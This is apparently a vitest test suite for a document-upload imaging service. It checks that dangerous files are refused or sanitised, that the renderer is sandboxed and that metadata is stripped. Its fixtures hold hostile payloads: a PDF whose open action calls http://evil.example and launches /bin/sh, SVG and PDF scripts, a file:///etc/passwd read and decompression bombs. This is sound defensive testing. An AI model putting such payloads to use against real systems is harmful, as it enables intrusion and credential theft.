import { execFileSync, spawnSync } from "node:child_process"
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { crc32, deflateSync } from "node:zlib"
import { Effect, Result } from "effect"
import sharp from "sharp"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { DOCUMENT_BYTES_MAX, type DocumentKind } from "../contract.ts"
import { sampleDocument } from "../testing/sampleDocument.ts"
import { samplePdf } from "../testing/samplePdf.ts"
import { imagingCommand, runImaging } from "./runImaging.ts"
import { sniffDocument } from "./sniffDocument.ts"

const TASK = {
  text: "Copy for quire.example / 2026-11-27 / 7f3a22c1",
  sidePxMax: 2_400,
  isCard: true,
  mark: "copy",
} as const
const SLOW = { timeout: 30_000 }

/** A chunk of a PNG, with a right or a wrong checksum. */
const chunk = (name: string, data: Uint8Array, isRight = true): Buffer => {
  const body = Buffer.concat([Buffer.from(name, "latin1"), data])
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE((crc32(body) ^ (isRight ? 0 : 1)) >>> 0)
  return Buffer.concat([head, body, sum])
}
const header = (width: number, height: number): Buffer => {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width)
  data.writeUInt32BE(height, 4)
  data.set([8, 2, 0, 0, 0], 8)
  return chunk("IHDR", data)
}
const SIGNATURE = Buffer.from("89504e470d0a1a0a", "hex")
const png = (width: number, height: number, ...chunks: ReadonlyArray<Buffer>) =>
  Buffer.concat([SIGNATURE, header(width, height), ...chunks, chunk("IEND", Buffer.alloc(0))])
/** Scan lines of black pixels, compressed: thirty thousand to one. */
const black = (width: number, height: number) => chunk("IDAT", deflateSync(Buffer.alloc((width * 3 + 1) * height)))
const bomb = (name: string) =>
  chunk(name, Buffer.concat([Buffer.from("x\0\0", "latin1"), deflateSync(Buffer.alloc(100_000_000))]))
/** The boxes of an AVIF with these sizes. */
const avif = (...sizes: ReadonlyArray<readonly [number, number]>) => {
  const boxes = sizes.map(([width, height]) => {
    const box = Buffer.alloc(20)
    box.writeUInt32BE(20)
    box.write("ispe", 4, "latin1")
    box.writeUInt32BE(width, 12)
    box.writeUInt32BE(height, 16)
    return box
  })
  return Buffer.concat([Buffer.from("0000001c6674797061766966", "hex"), Buffer.alloc(16), ...boxes])
}

/** A letter that asks for a file, an address and a program when it is opened or drawn. */
const hostilePdf = async (): Promise<Buffer> => {
  const actions = [
    "/AA<</O<</S/URI/URI(http://evil.example/seen)>>/C<</S/Launch/F(/bin/sh)>>>>",
    "/Metadata<</Type/EmbeddedFile/F(/etc/passwd)/FFilter/FlateDecode>>",
  ]
  const whole = (await samplePdf(1)).toString("latin1")
  return Buffer.from(whole.replace("/Type /Page\n", `/Type /Page\n${actions.join("\n")}\n`), "latin1")
}

const causeOf = (bytes: Uint8Array, kind: DocumentKind = "passport") => {
  const refusal = sniffDocument(bytes, kind)
  return refusal === null ? null : refusal._tag === "DocumentTooLarge" ? "large" : refusal.cause
}
const imaging = (bytes: Uint8Array) => Effect.runPromise(Effect.result(runImaging(bytes, TASK)))

describe("an upload is refused before it is decoded", () => {
  it.each([
    [
      "an SVG with a script, whatever its name",
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
      "format",
    ],
    [
      "an SVG that reads a file",
      Buffer.from('<?xml version="1.0"?><svg><image xlink:href="file:///etc/passwd"/></svg>'),
      "format",
    ],
    ["HTML", Buffer.from("<!doctype html><script>alert(1)</script>"), "format"],
    ["a GIF", Buffer.from("GIF89a\x10\x00\x10\x00", "latin1"), "format"],
    ["a TIFF", Buffer.from("49492a0008000000", "hex"), "format"],
    ["an empty file", Buffer.alloc(0), "format"],
    ["a HEIC", Buffer.from("000000186674797068656963000000006d696631", "hex"), "heic"],
    ["a PDF", Buffer.from("%PDF-1.7\n1 0 obj <</OpenAction<</JS(app.alert(1))>>>>"), "pdf"],
    ["a PDF behind other bytes", Buffer.from(`${" ".repeat(500)}%PDF-1.4`), "pdf"],
    ["40 kB that are 30,000 by 30,000 pixels", png(30_000, 30_000, chunk("IDAT", Buffer.alloc(40_000))), "large"],
    ["a PNG without pixels", png(1_000, 1_000), "damaged"],
    ["a PNG whose chunks lead nowhere", Buffer.concat([SIGNATURE, header(500, 500), Buffer.alloc(9, 0xff)]), "damaged"],
    [
      "an APNG",
      png(1_000, 1_000, chunk("acTL", Buffer.from("0000271000000000", "hex")), black(1_000, 1_000)),
      "frames",
    ],
    ["an AVIF grid whose tiles are small", avif([512, 512], [20_000, 20_000]), "large"],
    ["an AVIF without a size", avif(), "damaged"],
    [
      "an animated WebP",
      Buffer.from("RIFF\x20\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x02\x00\x00\x00\xff\x03\x00\xff\x03\x00", "latin1"),
      "frames",
    ],
    ["a JPEG without a frame", Buffer.from("ffd8ffe000104a46494600010100000100010000ffd9", "hex"), "damaged"],
    [
      "100,000 restart markers instead of one",
      Buffer.concat([Buffer.from("ffd8ff", "hex"), Buffer.alloc(200_000, Buffer.from("ffd0", "hex"))]),
      "damaged",
    ],
    ["a thumbnail of 100 pixels", png(100, 100, black(100, 100)), "damaged"],
    ["more than 10 MB", Buffer.alloc(DOCUMENT_BYTES_MAX + 1, 0xff), "large"],
  ])("%s", (_, bytes, cause) => {
    const begun = process.cpuUsage()
    expect(causeOf(bytes)).toBe(cause)
    expect(process.cpuUsage(begun).user / 1_000).toBeLessThan(1_000)
  })

  it("unless it is one of four formats", async () => {
    const image = sharp({ create: { width: 1_200, height: 800, channels: 3, background: "#0a6" } })
    for (const format of ["jpeg", "png", "webp", "avif"] as const)
      expect([format, causeOf(await image.clone().toFormat(format).toBuffer())]).toEqual([format, null])
    expect(causeOf(await image.clone().webp({ lossless: true }).toBuffer())).toBeNull()
  })
})

describe("a PDF as proof of address", () => {
  it("is refused if it follows other bytes, has no end, or has a password", async () => {
    const whole = await samplePdf(1)
    const cause = (bytes: Uint8Array) => causeOf(bytes, "proofOfAddress")
    expect(cause(whole)).toBeNull()
    expect(cause(Buffer.concat([Buffer.from("MZ  "), whole]))).toBe("damaged")
    expect(cause(whole.subarray(0, whole.length - 20))).toBe("damaged")
    expect(cause(await samplePdf(1, { userPassword: "secret" }))).toBe("damaged")
  })

  it("becomes one image of all pages, without what is not drawn", SLOW, async () => {
    const [one, three] = [await imaging(await samplePdf(1)), await imaging(await samplePdf(3))]
    const [single, sheet] = [Result.getOrThrow(one).quality, Result.getOrThrow(three).quality]
    expect([single.widthPx, single.heightPx]).toEqual([1_009, 1_418])
    expect([sheet.widthPx, sheet.heightPx]).toEqual([2 * single.widthPx, 2 * single.heightPx])
    const image = Buffer.from(Result.getOrThrow(three).image)
    expect(image.includes("app.alert")).toBe(false)
    // Text was drawn: a white sheet alone would not be sharp.
    expect(sheet.sharpness).toBeGreaterThan(60)
  })

  it("may have ten pages", { timeout: 60_000, tags: ["long"] }, async () => {
    expect(Result.getOrThrow(await imaging(await samplePdf(10))).quality.heightPx).toBe(5 * 1_418)
  })

  it.each([
    ["with eleven pages", () => samplePdf(11)],
    ["that only claims to be one", async () => Buffer.from(`%PDF-1.7\n${"x".repeat(5_000)}\n%%EOF`)],
    [
      "whose table of objects points to itself",
      async () => Buffer.from("%PDF-1.7\nxref\n0 1\ntrailer <</Root 1 0 R /Prev 9>>\nstartxref\n9\n%%EOF"),
    ],
    [
      "whose pages contain each other",
      async () =>
        Buffer.from(
          "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        ),
    ],
    ["with a million objects", async () => Buffer.from(`%PDF-1.4\n${"1 0 obj<<>>endobj\n".repeat(500_000)}%%EOF`)],
  ])("%s is refused within its limits", { timeout: 60_000, tags: ["long"] }, async (_, make) => {
    expect(await imaging(await make())).toEqual(Result.fail(expect.objectContaining({ cause: "damaged" })))
  })
})

describe("the imaging process", () => {
  it.each([
    ["a truncated JPEG", async () => (await sampleDocument()).subarray(0, 9_000)],
    [
      "a PNG with wrong checksums",
      async () => png(1_000, 1_000, chunk("IDAT", deflateSync(Buffer.alloc(3_001_000)), false)),
    ],
    ["a PNG with too few pixels", async () => png(5_000, 5_000, chunk("IDAT", deflateSync(Buffer.alloc(10))))],
  ])("refuses %s, and goes on with others", SLOW, async (_, make) => {
    expect(await imaging(await make())).toEqual(Result.fail(expect.objectContaining({ cause: "damaged" })))
    expect(Result.isSuccess(await imaging(await sampleDocument()))).toBe(true)
  })

  it.each([["zTXt"], ["iCCP"]])("survives a bomb in %s, and a black image of 39 megapixels", SLOW, async (name) => {
    const made = await imaging(png(7_200, 5_400, bomb(name), black(7_200, 5_400)))
    // Read without the bomb, or refused: within the limits of time and memory.
    expect(Result.isSuccess(made) || made.failure.cause === "damaged").toBe(true)
  })

  it("has none of our environment and can neither read files nor start processes", async () => {
    const program = join(import.meta.dirname, "program.ts")
    const flags = ["--permission", "--allow-addons", `--allow-fs-read=${import.meta.dirname}/*`, "--no-warnings"]
    const attempt = (code: string) =>
      spawnSync(process.execPath, [...flags, "--input-type=module", "-e", code], { env: {} }).stderr.toString()
    expect(program.endsWith(".ts")).toBe(true)
    expect(attempt('import fs from "node:fs"; fs.readFileSync("/etc/hostname")')).toContain("ERR_ACCESS_DENIED")
    expect(attempt('import c from "node:child_process"; c.execSync("true")')).toContain("ERR_ACCESS_DENIED")
  })

  const hasStrace = spawnSync("strace", ["-o", "/dev/null", "true"]).status === 0
  it.skipIf(!hasStrace)(
    "opens no network and no file of the machine while it draws a hostile PDF, says strace",
    {
      timeout: 60_000,
    },
    async () => {
      const pdf = await hostilePdf()
      expect([pdf.includes("evil.example"), pdf.includes("/etc/passwd")]).toEqual([true, true])
      const calls = join(mkdtempSync(join(tmpdir(), "quire-strace-")), "calls")
      const child = [
        "-f",
        "-qq",
        "-e",
        "trace=%network,openat,open,execve,unlink,rename",
        "-o",
        calls,
        process.execPath,
      ]
      const done = spawnSync("strace", [...child, ...imagingCommand(TASK)], { env: {}, input: pdf, maxBuffer: 1e8 })
      expect([done.status, done.stdout.length > 10_000]).toEqual([0, true])
      const lines = readFileSync(calls, "utf8").split("\n")
      rmSync(join(calls, ".."), { recursive: true })
      // Node's own socket pair wakes its threads; nothing is addressed.
      expect(lines.filter((line) => /\b(?:connect|bind|sendto|sendmsg)\(|AF_INET/.test(line))).toEqual([])
      const written = lines.filter((line) => /O_(?:WRONLY|RDWR|CREAT)|unlink\(|rename\(/.test(line))
      expect(written.filter((line) => !line.includes('"/dev/'))).toEqual([])
      expect(lines.filter((line) => /passwd|hostname|evil\.example/.test(line))).toEqual([])
      expect(lines.filter((line) => line.includes("execve(")).length).toBe(1)
    },
  )

  it("gives advice about small, dark and blurred images", SLOW, async () => {
    const hintsOf = async (bytes: Uint8Array) => {
      const made = await imaging(bytes)
      return Result.isSuccess(made) ? made.success.quality.hints : null
    }
    expect(await hintsOf(await sampleDocument())).toEqual([])
    expect(await hintsOf(await sampleDocument("#dfe7ee", { width: 640, height: 404 }))).toContain("small")
    expect(
      await hintsOf(
        await sharp(await sampleDocument())
          .blur(12)
          .toBuffer(),
      ),
    ).toContain("blurred")
    expect(
      await hintsOf(
        await sharp(await sampleDocument())
          .linear(0.1, 0)
          .toBuffer(),
      ),
    ).toContain("dark")
    expect(await hintsOf(await sampleDocument("#dfe7ee", { width: 3_000, height: 1_010 }))).toContain("shape")
  })
})

describe("metadata", () => {
  let folder: string
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), "quire-exif-"))
  })
  afterAll(() => rmSync(folder, { recursive: true }))

  /** A photo with a place, maker notes' neighbours, XMP, a profile, and something behind its end. */
  const photo = async () =>
    Buffer.concat([
      await sharp(await sampleDocument())
        .withExif({
          IFD0: { Make: "Maker", Artist: "Anna" },
          IFD3: { GPSLatitude: "48/1 12/1 0/1", GPSLatitudeRef: "N" },
        })
        .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>home</secret></x:xmpmeta>')
        .withIccProfile("p3")
        .toBuffer(),
      Buffer.from("PK\x03\x04 an archive behind the image", "latin1"),
    ])
  const clean = async () => {
    const made = await imaging(await photo())
    return Buffer.from(Result.getOrThrow(made).image)
  }

  it("is not in what is sealed: no place, no names, no profile, nothing behind the end", SLOW, async () => {
    const image = await clean()
    const { exif, xmp, icc, iptc, orientation } = await sharp(image).metadata()
    expect([exif, xmp, icc, iptc, orientation]).toEqual([undefined, undefined, undefined, undefined, undefined])
    for (const trace of ["Exif", "GPS", "Anna", "secret", "archive", "ICC_PROFILE"])
      expect([trace, image.includes(trace)]).toEqual([trace, false])
  })

  /** Metadata as cameras write it: maker notes, and in a second directory a thumbnail of the picture before it was cropped. */
  const exifWithThumbnail = (thumbnail: Uint8Array): Buffer => {
    const entry = (tag: number, type: number, count: number, value: number) => {
      const bytes = Buffer.alloc(12)
      bytes.writeUInt16LE(tag)
      bytes.writeUInt16LE(type, 2)
      bytes.writeUInt32LE(count, 4)
      bytes.writeUInt32LE(value, 8)
      return bytes
    }
    const directory = (entries: ReadonlyArray<Buffer>, next: number) => {
      const [count, end] = [Buffer.alloc(2), Buffer.alloc(4)]
      count.writeUInt16LE(entries.length)
      end.writeUInt32LE(next)
      return Buffer.concat([count, ...entries, end])
    }
    const notes = Buffer.from("MAKER-NOTES with a serial number", "latin1")
    const [exifAt, notesAt, secondAt] = [26, 44, 44 + notes.length]
    const thumbnailAt = secondAt + 2 + 3 * 12 + 4
    const tiff = Buffer.concat([
      Buffer.from("49492a0008000000", "hex"),
      directory([entry(0x8769, 4, 1, exifAt)], secondAt),
      directory([entry(0x927c, 7, notes.length, notesAt)], 0),
      notes,
      directory([entry(0x0103, 3, 1, 6), entry(0x0201, 4, 1, thumbnailAt), entry(0x0202, 4, 1, thumbnail.length)], 0),
      thumbnail,
    ])
    const body = Buffer.concat([Buffer.from("Exif\0\0", "latin1"), tiff])
    const head = Buffer.from("ffe10000", "hex")
    head.writeUInt16BE(body.length + 2, 2)
    return Buffer.concat([head, body])
  }
  const SOI = Buffer.from("ffd8ff", "hex")
  const withThumbnail = async () => {
    const [whole, thumbnail] = [
      await sampleDocument(),
      await sharp({ create: { width: 160, height: 120, channels: 3, background: "#c00" } })
        .jpeg()
        .toBuffer(),
    ]
    return Buffer.concat([whole.subarray(0, 2), exifWithThumbnail(thumbnail), whole.subarray(2)])
  }

  it("leaves no thumbnail of the uncropped picture and no maker notes", SLOW, async () => {
    const given = await withThumbnail()
    expect([(await sharp(given).metadata()).exif?.includes(SOI), given.includes("MAKER-NOTES")]).toEqual([true, true])
    const image = Buffer.from(Result.getOrThrow(await imaging(given)).image)
    // A second start of an image cannot occur within compressed data.
    expect([image.indexOf(SOI), image.indexOf(SOI, 1), image.includes("MAKER-NOTES")]).toEqual([0, -1, false])
  })

  const hasExiftool = spawnSync("exiftool", ["-ver"]).status === 0
  it.skipIf(!hasExiftool)("is not found by exiftool, which this test needs", SLOW, async () => {
    const [before, after] = [join(folder, "before.jpg"), join(folder, "after.jpg")]
    writeFileSync(before, await photo())
    writeFileSync(after, await clean())
    const groups = (file: string) =>
      Object.keys(JSON.parse(execFileSync("exiftool", ["-json", "-G1", "-a", "-u", file]).toString())[0])
        .map((tag) => tag.split(":")[0])
        .filter((group) => !/^(?:SourceFile|ExifTool|System|File|Composite|JFIF)$/.test(group ?? ""))
    expect(groups(before)).not.toEqual([])
    expect(groups(after)).toEqual([])
    writeFileSync(before, await withThumbnail())
    writeFileSync(after, Result.getOrThrow(await imaging(readFileSync(before))).image)
    const thumbnail = (file: string) => execFileSync("exiftool", ["-b", "-ThumbnailImage", file]).length
    expect([thumbnail(before) > 0, thumbnail(after)]).toEqual([true, 0])
    expect(readFileSync(after).length).toBeGreaterThan(0)
  })
})
